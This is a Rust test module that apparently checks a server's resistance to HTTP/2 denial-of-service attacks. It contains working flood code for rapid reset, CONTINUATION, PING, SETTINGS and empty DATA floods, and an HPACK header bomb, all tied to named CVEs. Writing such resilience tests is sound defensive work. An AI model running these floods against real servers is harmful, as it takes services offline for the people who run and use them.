//! Frames of HTTP/2 that cost their sender little (CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316).

use super::flood;
use super::offender::{End, Target, pour};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET` or `POST`, https, /, localhost (RFC 7541, appendix A, and a literal).
const GET: &[u8] = b"\x82\x87\x84\x01\x09localhost";
const POST: &[u8] = b"\x83\x87\x84\x01\x09localhost";

/// Frames written at once.
const BATCH: usize = 256;

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).expect("short").to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A connection on which `first` is sent, and then what `next` makes.
async fn frames(target: Target, first: Vec<u8>, next: impl FnMut() -> Vec<u8>) -> End {
    let stream = match target.tls("h2").await {
        Ok(stream) => stream,
        Err(end) => return end,
    };
    let start = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[]), first].concat();
    pour(target, stream, &start, next).await
}

/// What a client makes its streams of, one after the other.
fn streams(mut one: impl FnMut(u32) -> Vec<u8>) -> impl FnMut() -> Vec<u8> {
    let mut numbers = (1..).step_by(2);
    move || (0..BATCH).flat_map(|_| one(numbers.next().expect("more than a flood has"))).collect()
}

#[test]
#[ignore = "run by scripts/floods"]
fn http2_rapid_reset() {
    let reset = |id| {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
        [request, frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
    };
    flood("HTTP/2 rapid reset", 1, move |target| frames(target, vec![], streams(reset)));
}

#[test]
#[ignore = "run by scripts/floods"]
fn http2_continuation() {
    let field = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(BATCH);
    flood("HTTP/2 CONTINUATION", 1, move |target| {
        let field = field.clone();
        frames(target, frame(HEADERS, END_STREAM, 1, GET), move || field.clone())
    });
}

#[test]
#[ignore = "run by scripts/floods"]
fn http2_ping() {
    let pings = frame(PING, 0, 0, &[0; 8]).repeat(BATCH);
    flood("HTTP/2 PING", 1, move |target| {
        let pings = pings.clone();
        frames(target, vec![], move || pings.clone())
    });
}

#[test]
#[ignore = "run by scripts/floods"]
fn http2_settings() {
    let settings = frame(SETTINGS, 0, 0, &[]).repeat(BATCH);
    flood("HTTP/2 SETTINGS", 1, move |target| {
        let settings = settings.clone();
        frames(target, vec![], move || settings.clone())
    });
}

#[test]
#[ignore = "run by scripts/floods"]
fn http2_empty_data() {
    let data = frame(DATA, 0, 1, &[]).repeat(BATCH);
    flood("HTTP/2 empty DATA", 1, move |target| {
        let data = data.clone();
        frames(target, frame(HEADERS, END_HEADERS, 1, POST), move || data.clone())
    });
}

/// Requests of a few bytes whose headers come to 64 MB when they are unpacked: one large field goes to the dynamic table, and
/// all others refer to it.
#[test]
#[ignore = "run by scripts/floods"]
fn http2_header_bomb() {
    // RFC 7541, 6.2.1: a literal that is remembered, with a value of 4,000 bytes (127 + 3873 in groups of seven bits).
    let large = [&[GET, b"\x40\x01a\x7f\xa1\x1e"].concat()[..], &[b'b'; 4000]].concat();
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &large);
    // RFC 7541, 6.1: index 62 is the youngest of the table.
    let bomb = [GET, &[0xbe; 16_000]].concat();
    flood("HPACK bomb", 1, move |target| {
        let (first, bomb) = (first.clone(), bomb.clone());
        let mut numbers = (3..).step_by(2);
        frames(target, first, move || {
            frame(HEADERS, END_STREAM | END_HEADERS, numbers.next().expect("more than a flood has"), &bomb)
        })
    });
}
